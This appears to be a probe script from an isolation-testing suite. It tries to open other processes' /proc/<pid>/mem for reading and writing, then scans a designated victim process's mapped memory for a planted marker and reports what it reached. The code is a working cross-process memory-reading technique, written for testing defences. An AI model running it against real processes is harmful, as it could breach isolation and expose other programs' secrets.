"""Reads and writes others' memory through /proc/<pid>/mem."""

import os

from attack_kit import HOST, MB, attempt, holds_masked, others, reached, read_path

for pid in others():
    for flags, way in ((os.O_RDONLY, "reading"), (os.O_RDWR, "reading and writing")):
        fd = attempt(os.open, f"/proc/{pid}/mem", flags)
        if isinstance(fd, int):
            reached(f"the memory of {pid} is open for {way}")
            os.close(fd)
maps = attempt(read_path, f"/proc/{HOST['victim_pid']}/maps", MB)
fd = attempt(os.open, f"/proc/{HOST['victim_pid']}/mem", os.O_RDONLY)
if isinstance(maps, bytes) and isinstance(fd, int):
    for line in maps.decode().splitlines():
        start, end = (int(part, 16) for part in line.split()[0].split("-"))
        data = attempt(os.pread, fd, min(end - start, 64 * MB), start)
        if isinstance(data, bytes) and holds_masked(data, HOST["victim_marker"]):
            reached("the victim's marker")
